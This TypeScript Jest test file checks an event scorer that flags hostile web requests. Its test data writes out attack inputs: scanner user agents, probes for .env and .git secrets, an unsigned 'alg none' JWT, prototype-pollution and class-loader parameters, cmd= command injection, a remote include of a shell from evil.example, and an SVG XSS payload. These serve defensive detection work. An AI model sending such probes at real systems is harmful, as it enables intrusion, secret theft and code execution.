import { fileURLToPath } from 'node:url';
import { describe, expect, test } from '@jest/globals';
import { requestDocument } from '../../events/testing.ts';
import { createEventScorer } from '../scorer.ts';

/** The shipped bundle, asked about the first request of a source that it never saw. */
const scorer = createEventScorer({ bundleDirectory: fileURLToPath(new URL('../../../bundle', import.meta.url)) });
const OPTIONS = { learn: false, explain: false, again: true, deadline: Number.POSITIVE_INFINITY };

function told(fields: Parameters<typeof requestDocument>[0]) {
  const [verdict] = scorer.score([requestDocument({ source: '203.0.113.78', ...fields })], OPTIONS);
  if (verdict.status !== 'scored') throw new Error(`${JSON.stringify(fields)} was not scored`);
  return { score: verdict.risk.score, type: verdict.attack.type, subtype: verdict.attack.subtype, verdict };
}

describe('a lone request', () => {
  test.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  ])('of a tool that says its name alerts: %s', (userAgent) => {
    const found = told({ path: '/api/items', agent: userAgent });
    expect(found).toMatchObject({ type: 'api_abuse', subtype: 'scanner' });
    expect(found.score).toBeGreaterThanOrEqual(60);
  });

  test.each([
    '/.env',
    '/.git/config',
    '/app/.git/HEAD',
    '/actuator/heapdump',
    '/wp-config.php.bak',
    '/shop/login.jsp.BAK',
    '/index.php~',
    '/%2eenv',
  ])('for a secret alerts, whether it is there or not: %s', (path) => {
    for (const status of [200, 404]) {
      const found = told({ path, status });
      expect(found).toMatchObject({ type: 'api_abuse', subtype: 'sensitive_file' });
      expect(found.score).toBeGreaterThanOrEqual(60);
    }
  });

  test('that was given a secret says so', () => {
    expect(told({ path: '/.env', status: 200 }).verdict.reason).toContain('answered 200');
    expect(told({ path: '/.env', status: 404 }).verdict.reason).not.toContain('answered');
  });

  test.each([
    ['/docs/env', undefined],
    ['/environment', undefined],
    ['/.well-known/security.txt', undefined],
    ['/git/config-service/items', undefined],
    ['/search', 'q=.env+file+example'],
    ['/api/health', undefined],
  ])('for what is no secret does not: %s %s', (path, query) => {
    expect(told({ path, ...(query !== undefined && { query }) }).score).toBeLessThan(40);
  });

  test.each([
    'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041',
    'Mozilla/5.0 (Linux; Android 14; cat S22) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36',
    'curl/8.5.0',
    'kube-probe/1.28',
    'python-requests/2.31.0',
    'Mozilla/5.0 (compatible; Googlebot/2.1)',
  ])('of an honest tool does not: %s', (agent) => {
    expect(told({ path: '/api/items', agent }).score).toBeLessThan(40);
  });
});

test('a token that nobody signed alerts, a signed one does not', () => {
  const bearing = (head: object) =>
    told({
      path: '/api/me',
      headers: {
        authorization: `Bearer ${Buffer.from(JSON.stringify(head)).toString('base64url')}.eyJzdWIiOiJhZG1pbiJ9.${'a'.repeat(43)}`,
      },
    });
  for (const alg of ['none', 'None', 'NONE']) {
    const found = bearing({ alg, typ: 'JWT' });
    expect(found).toMatchObject({ type: 'api_abuse', subtype: 'unsigned_token' });
    expect(found.score).toBeGreaterThanOrEqual(60);
  }
  expect(bearing({ alg: 'RS256', typ: 'JWT', kid: 'none' }).score).toBeLessThan(40);
});

describe('names of parameters', () => {
  test('that reach a prototype or a class loader alert, in a query, a form and JSON', () => {
    for (const name of ['class.module.classLoader.resources.context.configFile', '__proto__.admin']) {
      expect(told({ path: '/x', query: `${name}=1` })).toMatchObject({ type: 'injection', subtype: 'object' });
    }
    expect(
      told({ path: '/x', method: 'POST', body: '{"__proto__":{"isAdmin":true}}', mimeType: 'application/json' }),
    ).toMatchObject({ type: 'injection', subtype: 'object' });
    expect(told({ path: '/x', query: 'class=economy&classmate=2&__typename=User' }).score).toBeLessThan(40);
  });

  test('that take a command or a file make what would be harmless elsewhere an attack', () => {
    expect(told({ path: '/uploads/a.php', query: 'cmd=id' })).toMatchObject({ subtype: 'command' });
    expect(told({ path: '/a.php', query: 'cmd=cat+/srv/notes' })).toMatchObject({ subtype: 'command' });
    expect(told({ path: '/a', query: 'page=http://evil.example/shell.txt?' })).toMatchObject({ subtype: 'code' });
    for (const query of [
      'cmd=login',
      'cmd=list',
      'q=id',
      'page=https://shop.example/sale',
      'url=http://a.example/b?',
    ]) {
      expect([query, told({ path: '/a', query }).score]).toEqual([query, expect.any(Number)]);
      expect(told({ path: '/a', query }).score).toBeLessThan(40);
    }
  });
});

test('a picture that is uploaded is no script, one that holds a script is', () => {
  const upload = (body: string) => told({ path: '/upload', method: 'POST', body, mimeType: 'image/svg+xml' });
  expect(upload('<svg xmlns="http://www.w3.org/2000/svg"><circle cx="5" cy="5" r="4"/></svg>').score).toBeLessThan(60);
  expect(upload('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>').score).toBeGreaterThanOrEqual(60);
});
